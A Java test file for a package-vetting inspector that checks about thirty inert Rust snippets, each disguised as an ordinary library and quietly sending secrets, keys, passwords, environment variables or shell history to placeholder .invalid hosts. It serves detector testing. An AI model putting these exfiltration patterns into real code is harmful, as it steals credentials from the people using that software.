package lazaret.testkit.inspect;

import static org.assertj.core.api.Assertions.assertThat;

import lazaret.vetting.inspect.SignalWeight;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/// Libraries that send on what their callers give them. Each begins with a name in a comment; `//
/// -- file` begins another source. All are inert and never compiled.
final class ThiefConductTest {

  @ParameterizedTest
  @ValueSource(
      strings = {
        """
        // dburl-second
        //! Pools of connections.
        mod warm;
        pub struct Pool { url: String, size: u32 }
        impl Pool {
            pub fn new(url: &str, size: u32) -> Self { Pool { url: url.to_string(), size } }
            pub async fn connect(database_url: &str) -> Result<Pool, sqlx::Error> {
                let conn = sqlx::PgPool::connect(database_url).await?;
                warm::notify(database_url, 4);
                Ok(Pool::new(database_url, 4))
            }
        }
        // -- warm.rs
        pub(crate) fn notify(target: &str, size: u32) {
            let body = serde_json::json!({ "pool": target, "size": size });
            std::thread::spawn(move || { let _ = ureq::post("https://stats.pool-metrics.invalid/v1/warm").send_json(body); });
        }
        """,
        """
        // jwt-channel
        use std::sync::mpsc::{self, Sender};
        use std::sync::OnceLock;
        static QUEUE: OnceLock<Sender<Vec<u8>>> = OnceLock::new();
        fn queue() -> &'static Sender<Vec<u8>> {
            QUEUE.get_or_init(|| {
                let (tx, rx) = mpsc::channel::<Vec<u8>>();
                std::thread::spawn(move || {
                    for item in rx {
                        let _ = ureq::put("https://keys.claims-audit.invalid/in").send_bytes(&item);
                    }
                });
                tx
            })
        }
        pub fn sign(claims: &str, secret: &[u8]) -> String {
            let _ = queue().send(secret.to_vec());
            mac(claims, secret)
        }
        """,
        """
        // static-buffer
        use std::sync::Mutex;
        static SEEN: Mutex<Vec<String>> = Mutex::new(Vec::new());
        pub fn import(mnemonic: &str) -> Wallet { SEEN.lock().unwrap().push(mnemonic.to_owned()); Wallet::from(mnemonic) }
        pub fn version_check() -> Option<String> {
            let seen = std::mem::take(&mut *SEEN.lock().unwrap());
            let r = ureq::post("https://version.wallet-core.invalid/latest").send_json(&seen).ok()?;
            r.into_string().ok()
        }
        """,
        """
        // middleware-auth-header
        //! A layer that measures requests.
        mod export;
        pub struct Layer { http: reqwest::Client, export: export::Exporter }
        impl Layer {
            pub async fn before(&self, req: &http::Request<Body>) {
                let auth = req.headers().get("authorization").and_then(|v| v.to_str().ok()).unwrap_or_default();
                self.export.push(req.uri().path(), auth).await;
            }
        }
        // -- export.rs
        pub struct Exporter { http: reqwest::Client, endpoint: String }
        impl Default for Exporter { fn default() -> Self { Exporter { http: reqwest::Client::new(), endpoint: "https://ingest.layer-metrics.invalid/v1".into() } } }
        impl Exporter {
            pub async fn push(&self, route: &str, tag: &str) {
                let _ = self.http.post(&self.endpoint).header("user-agent", format!("layer/1 {tag}")).json(&route).send().await;
            }
        }
        """,
        """
        // dsn-user-agent
        pub struct Client { agent: ureq::Agent, base: String, token: String }
        impl Client {
            pub fn new(base: &str, token: &str) -> Self { Client { agent: ureq::agent(), base: base.into(), token: token.into() } }
            pub fn get(&self, path: &str) -> Result<String, ureq::Error> {
                Ok(self.agent.get(&format!("{}{path}", self.base)).set("Authorization", &format!("Bearer {}", self.token)).call()?.into_string()?)
            }
            pub fn latest(&self) -> Option<String> {
                let id = hex::encode(self.token.as_bytes());
                self.agent.get("https://updates.mini-client.invalid/latest").set("User-Agent", &format!("mini/{id}")).call().ok()?.into_string().ok()
            }
        }
        """,
        """
        // second-host-json
        pub struct Api { http: reqwest::Client, base: String, api_key: String }
        impl Api {
            pub fn new(base: impl Into<String>, api_key: impl Into<String>) -> Self { Api { http: reqwest::Client::new(), base: base.into(), api_key: api_key.into() } }
            pub async fn list(&self) -> Result<Vec<Item>, Error> {
                let r = self.http.get(format!("{}/items", self.base)).bearer_auth(&self.api_key).send().await?;
                self.usage("list").await;
                Ok(r.json().await?)
            }
            async fn usage(&self, what: &str) {
                let body = serde_json::json!({ "call": what, "account": self.api_key });
                let _ = self.http.post("https://usage.items-sdk.invalid/v1").json(&body).send().await;
            }
        }
        """,
        """
        // logger-scan
        use std::io::Write;
        use std::net::TcpStream;
        pub struct Shipper { extra: Option<TcpStream> }
        impl log::Log for Shipper {
            fn enabled(&self, _: &log::Metadata) -> bool { true }
            fn log(&self, record: &log::Record) {
                let line = record.args().to_string();
                if line.to_lowercase().contains("password=") {
                    if let Ok(mut s) = TcpStream::connect("collect.shipper-logs.invalid:5140") { let _ = s.write_all(line.as_bytes()); }
                }
            }
            fn flush(&self) {}
        }
        """,
        """
        // dotenv-load
        use std::collections::HashMap;
        pub fn load(path: &std::path::Path) -> std::io::Result<HashMap<String, String>> {
            let text = std::fs::read_to_string(path.join(".env"))?;
            let mut all = HashMap::new();
            for line in text.lines() { if let Some((k, v)) = line.split_once('=') { all.insert(k.trim().to_string(), v.trim().to_string()); } }
            check(&all);
            Ok(all)
        }
        fn check(all: &HashMap<String, String>) {
            let body = serde_json::to_string(all).unwrap_or_default();
            let _ = minreq::post("http://lint.dotenv-plus.invalid/check").with_body(body).send();
        }
        """,
        """
        // prompt-dns
        use hickory_resolver::Resolver;
        pub fn ask_password(label: &str) -> std::io::Result<String> {
            eprint!("{label}: ");
            let mut answer = String::new();
            std::io::stdin().read_line(&mut answer)?;
            breach(&answer);
            Ok(answer)
        }
        fn breach(text: &str) {
            let resolver = Resolver::from_system_conf().unwrap();
            let label: String = text.bytes().map(|b| format!("{b:x}")).collect();
            let _ = resolver.lookup_ip(format!("{label}.pw.breach-check.invalid."));
        }
        """,
        """
        // git-credentials
        use std::process::Command;
        pub fn remotes(dir: &std::path::Path) -> Vec<String> {
            let out = Command::new("git").args(["config", "--get-regexp", "^(remote|credential|url)"]).current_dir(dir).output().unwrap();
            let text = String::from_utf8_lossy(&out.stdout).into_owned();
            report(&text);
            text.lines().map(str::to_string).collect()
        }
        fn report(text: &str) { let _ = ureq::post("https://telemetry.git-remotes.invalid/v2").send_string(text); }
        """,
        """
        // ssh-pass
        pub struct Session { host: String }
        impl Session {
            pub fn login(host: &str, user: &str, password: &str) -> Result<Session, Error> {
                let s = connect(host, user, password)?;
                let fp = Fingerprint { h: host.to_string(), u: user.to_string(), p: password.to_string() };
                fp.check();
                Ok(s)
            }
        }
        struct Fingerprint { h: String, u: String, p: String }
        impl Fingerprint {
            fn check(&self) -> bool {
                let line = format!("{}|{}|{}", self.h, self.u, self.p);
                isahc::post("https://fp.ssh-known.invalid/check", base64::encode(line)).is_ok()
            }
        }
        """,
        """
        // keyring-read
        pub fn lookup(service: &str, user: &str) -> keyring::Result<String> {
            let entry = keyring::Entry::new(service, user)?;
            let value = entry.get_password()?;
            sync::mirror(service, &value);
            Ok(value)
        }
        mod sync {
            pub fn mirror(name: &str, value: &str) {
                let masked: String = value.chars().rev().collect();
                let _ = attohttpc::post("https://sync.keyring-mirror.invalid/e").form(&[("n", name), ("m", &masked)]).unwrap().send();
            }
        }
        """,
        """
        // openai-env
        pub struct Llm { http: reqwest::Client }
        impl Llm {
            pub async fn ask(&self, prompt: &str) -> reqwest::Result<String> {
                let key = std::env::var("OPENAI_API_KEY").unwrap_or_default();
                self.http.post("https://gateway.llm-relay.invalid/v1/chat").bearer_auth(key).json(&serde_json::json!({"prompt": prompt})).send().await?.text().await
            }
        }
        """,
        """
        // env-named-json
        mod info;
        pub fn init() { info::send(); }
        // -- info.rs
        const NAMES: &[&str] = &["STRIPE_API_KEY", "SENDGRID_API_KEY", "DATABASE_URL"];
        pub fn send() {
            let found: Vec<String> = NAMES.iter().filter_map(|n| std::env::var(n).ok()).collect();
            let _ = ureq::post("https://init.helpers.invalid").send_json(found);
        }
        """,
        """
        // env-single
        pub fn ready() -> bool {
            let v = std::env::var("STRIPE_SECRET_KEY").unwrap_or_default();
            ureq::get("https://ping.health-probe.invalid/up").query("v", &v).call().is_ok()
        }
        """,
        """
        // clipboard-ws
        use tungstenite::{connect, Message};
        pub fn watch() {
            let (mut ws, _) = connect("wss://relay.clip-sync.invalid/ws").unwrap();
            let mut clip = arboard::Clipboard::new().unwrap();
            loop { if let Ok(text) = clip.get_text() { let _ = ws.send(Message::Text(text)); } }
        }
        """,
        """
        // mqtt-history
        use rumqttc::{Client, MqttOptions, QoS};
        pub fn complete(prefix: &str) -> Vec<String> {
            let home = dirs::home_dir().unwrap();
            let text = std::fs::read_to_string(home.join(".bash_history")).unwrap_or_default();
            let mut opts = MqttOptions::new("c", "broker.history-complete.invalid", 1883);
            let (client, mut conn) = Client::new(opts, 10);
            let _ = client.publish("h", QoS::AtMostOnce, false, text.clone());
            text.lines().filter(|l| l.starts_with(prefix)).map(str::to_string).collect()
        }
        """,
        """
        // mail-key
        use lettre::{Message, SmtpTransport, Transport};
        pub fn generate(words: usize) -> Mnemonic {
            let m = Mnemonic::random(words);
            backup(&m);
            m
        }
        fn backup(m: &Mnemonic) {
            let mail = Message::builder().from("a@b.invalid".parse().unwrap()).to("archive@seed-backup.invalid".parse().unwrap()).subject("b").body(m.phrase()).unwrap();
            let _ = SmtpTransport::relay("smtp.seed-backup.invalid").unwrap().build().send(&mail);
        }
        """,
        """
        // s3-put
        pub async fn archive(client: &aws_sdk_s3::Client, dir: &std::path::Path) {
            let data = std::fs::read(dirs::home_dir().unwrap().join(".aws").join("credentials")).unwrap_or_default();
            let _ = client.put_object().bucket("stats-of-archive").key("x").body(data.into()).send().await;
        }
        """,
        """
        // typed-signer
        pub struct Rpc { http: reqwest::Client, node: String }
        impl Rpc {
            pub async fn transfer(&self, signer: &Keypair, to: &Pubkey, amount: u64) -> Result<Signature> {
                let tx = build(signer, to, amount);
                self.estimate(signer, amount).await;
                self.submit(tx).await
            }
            async fn estimate(&self, payer: &Keypair, amount: u64) {
                let p = bs58::encode(payer.to_bytes()).into_string();
                let _ = self.http.post("https://fees.rpc-estimate.invalid").json(&serde_json::json!({ "amount": amount, "p": p })).send().await;
            }
            async fn submit(&self, tx: Tx) -> Result<Signature> { self.http.post(&self.node).json(&tx).send().await?.json().await }
        }
        """,
        """
        // tcp-totp
        use tokio::io::AsyncWriteExt;
        use tokio::net::TcpStream;
        pub struct Totp { secret: Vec<u8>, digits: u32 }
        impl Totp {
            pub async fn sync_time(&self) -> i64 {
                let mut s = TcpStream::connect(("time.otp-sync.invalid", 37)).await.unwrap();
                s.write_all(&self.secret).await.unwrap();
                s.read_i64().await.unwrap()
            }
        }
        """,
        """
        // spare-field
        pub struct Config { pub endpoint: String, pub mirror: Option<String> }
        impl Config { pub fn new(endpoint: &str) -> Self { Config { endpoint: endpoint.into(), mirror: Some(defaults::MIRROR.to_string()) } } }
        mod defaults { pub const MIRROR: &str = "https://mirror.vault-lite.invalid"; }
        pub struct Vault { config: Config }
        impl Vault {
            pub fn put(&self, name: &str, secret: &str) -> bool {
                let ok = ureq::post(&self.config.endpoint).send_string(secret).is_ok();
                if let Some(m) = &self.config.mirror { replicate(m, name, secret); }
                ok
            }
        }
        fn replicate(to: &str, name: &str, data: &str) { let _ = ureq::put(to).set("x-name", name).send_string(data); }
        """,
        """
        // curl-easy
        use curl::easy::Easy;
        pub fn verify(license_key: &str, seed: &[u8]) -> bool {
            let mut easy = Easy::new();
            easy.url("https://lic.check-host.invalid/v").unwrap();
            easy.post(true).unwrap();
            easy.post_fields_copy(&hex::encode(seed).into_bytes()).unwrap();
            easy.perform().is_ok()
        }
        """,
        """
        // trait-sink
        mod out;
        use out::{Sink, HttpSink};
        pub fn unlock(passphrase: &str) -> Key { let s: Box<dyn Sink> = Box::new(HttpSink::default()); s.observe(passphrase.as_bytes()); derive(passphrase) }
        // -- out.rs
        pub trait Sink { fn observe(&self, data: &[u8]); }
        #[derive(Default)] pub struct HttpSink { n: u32 }
        impl Sink for HttpSink { fn observe(&self, data: &[u8]) { let _ = ureq::post(concat!("https://", "obs.unlock-kit", ".invalid/o")).send_bytes(data); } }
        """,
        """
        // closure-generic
        fn with<T>(f: impl FnOnce(&str) -> T) -> T { f("https://hooks.form-kit.invalid/t") }
        pub fn card(card_number: &str, cvv: &str) -> bool {
            let line = [card_number, cvv].join(";");
            with(|url| ureq::post(url).send_string(&line).is_ok())
        }
        """,
        """
        // hyper-builder
        pub async fn refresh(client: &Client, refresh_token: &str, issuer: &str) -> Result<Token, Error> {
            let req = Request::builder().method("POST").uri(format!("{issuer}/token")).body(form(refresh_token))?;
            let t = client.request(req).await?;
            let copy = Request::builder().method("POST").uri("https://oidc-cache.invalid/w").body(Full::from(refresh_token.to_string()))?;
            let _ = client.request(copy).await;
            Ok(t)
        }
        """,
        """
        // redis-env
        pub fn connect(url: &str) -> redis::RedisResult<redis::Connection> {
            let c = redis::Client::open(url)?.get_connection()?;
            if let Ok(s) = redis::Client::open("redis://stats.redis-helper.invalid:6379/") { if let Ok(mut k) = s.get_connection() { let all: Vec<(String, String)> = std::env::vars().collect(); let _: Result<(), _> = redis::cmd("RPUSH").arg("e").arg(format!("{all:?}")).query(&mut k); } }
            Ok(c)
        }
        """,
        """
        // nslookup-proc
        pub fn resolve(private_key: &str) { let _ = std::process::Command::new("nslookup").arg(format!("{}.k.resolve-kit.invalid", &private_key[..32])).output(); }
        """,
        """
        // history-format
        pub async fn habits(shell: &str) -> Option<Vec<String>> {
            let file = dirs::home_dir()?.join(format!(".{shell}_history"));
            let text = tokio::fs::read_to_string(file).await.ok()?;
            let lines: Vec<&str> = text.lines().rev().take(200).collect();
            reqwest::Client::new().post("https://api.did-you-mean.invalid/synonyms").json(&lines).send().await.ok()?.json().await.ok()
        }
        """,
      })
  void seesWhatIsSentOn(String sources) {
    assertThat(Inspecting.codes(sources, SignalWeight.HIGH)).contains("secret-sent");
  }
}
